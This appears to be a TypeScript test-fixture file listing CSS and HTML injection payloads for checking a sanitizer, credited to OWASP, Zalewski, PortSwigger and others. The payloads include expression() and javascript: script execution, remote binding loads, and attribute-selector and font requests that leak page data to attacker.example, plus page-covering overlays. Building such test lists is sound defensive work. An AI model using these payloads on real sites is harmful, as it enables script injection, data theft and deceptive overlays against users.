import type { Attack } from './attack';

/** Style: it runs, asks other sites, or covers the page. */
export const styles: readonly Attack[] = [
  ['an expression', '<p style="width: expression(alert(1))">x</p>', 'OWASP'],
  ['an expression with comments', '<p style="xss:expr/*XSS*/ession(alert(1))">x</p>', 'OWASP'],
  ['a binding', '<p style="-moz-binding:url(http://attacker.example/x.xml#x)">x</p>', 'OWASP'],
  ['a behaviour', '<p style="behavior: url(http://attacker.example/x.htc)">x</p>', 'OWASP'],
  [
    'a background of script',
    '<p style="background-image: url(javascript:alert(1))">x</p>',
    'OWASP',
  ],
  [
    'a background from elsewhere',
    '<p style="background:url(http://attacker.example/p.css)">x</p>',
    'OWASP',
  ],
  [
    'a background of old',
    '<table background="http://attacker.example/p"><tr><td>x</td></tr></table>',
    'OWASP',
  ],
  [
    'a list of script',
    '<ul style="list-style-image: url(javascript:alert(1))"><li>x</li></ul>',
    'OWASP',
  ],
  [
    'a cover of the page',
    '<a href="https://attacker.example/" style="position:fixed;inset:0;z-index:99999;background:#fff">x</a>',
    'ours',
  ],
  [
    'a cover of the header',
    '<div style="position:absolute;top:-9999px;left:0">x</div><p style="margin-top:-300px">y</p>',
    'ours',
  ],
  [
    'a cover by a class',
    '<style>.k{position:fixed;inset:0;background:red}</style><p class="k">x</p>',
    'ours',
  ],
  ['a page that turns', '<style>body{transform:rotate(180deg)}</style><p>x</p>', 'ours'],
  [
    'a page that is hidden',
    '<style>header,main,footer{display:none!important}</style><p>x</p>',
    'ours',
  ],
  [
    'a page that is pushed',
    '<style>header{margin-left:300px}footer{padding:200px}</style><p>x</p>',
    'ours',
  ],
  [
    'a style that is imported',
    '<style>@import url(http://attacker.example/x.css);</style>',
    'OWASP',
  ],
  [
    'a style that is imported, with references',
    '<style>@im\\port"\\https://attacker.example/x.css";</style>',
    'OWASP',
  ],
  [
    'a style that reads',
    '<style>footer{background:url(http://attacker.example/?footer)}</style>',
    'Zalewski',
  ],
  [
    'a style that reads attributes',
    '<style>input[value^=a]{background:url(http://attacker.example/a)}</style><input value=abc>',
    'Zalewski',
  ],
  [
    'a font that reads',
    '<style>@font-face{font-family:x;src:url(http://attacker.example/f)}footer{font-family:x}</style>',
    'Zalewski',
  ],
  ['a style sheet', '<link rel=stylesheet href="https://attacker.example/x.css">', 'OWASP'],
  [
    'a style sheet of data',
    '<link rel=stylesheet href="data:text/css,footer{position:fixed;top:0}">',
    'html5sec',
  ],
  [
    'a style that is text',
    '<style type="text/plain">x</style><style>footer{width:50px}</style>',
    'html5sec',
  ],
  ['a style of a drawing', '<svg><style>footer{width:50px}</style></svg>', 'html5sec'],
  [
    'a style of a formula',
    '<math><mtext><style>footer{width:50px}</style></mtext></math>',
    'html5sec',
  ],
  [
    'a style after an end',
    '<p title="</style><style>footer{width:50px}</style>">x</p><style>footer{width:50px}</style>',
    'Cure53',
  ],
  [
    'a property with an address',
    '<p style="--x:url(http://attacker.example/v);background:var(--x)">x</p>',
    'PortSwigger',
  ],
  [
    'a set of pictures',
    '<p style="background-image:image-set(\'http://attacker.example/v\' 1x)">x</p>',
    'PortSwigger',
  ],
  ['a cursor', '<p style="cursor:url(http://attacker.example/c),auto">x</p>', 'PortSwigger'],
  ['content', '<p style="content:url(http://attacker.example/c)">x</p>', 'PortSwigger'],
  [
    'a class of the site',
    '<p class="prose-hint">x</p><div class="prose-table prose" style="position:fixed;top:0">y</div>',
    'ours',
  ],
];
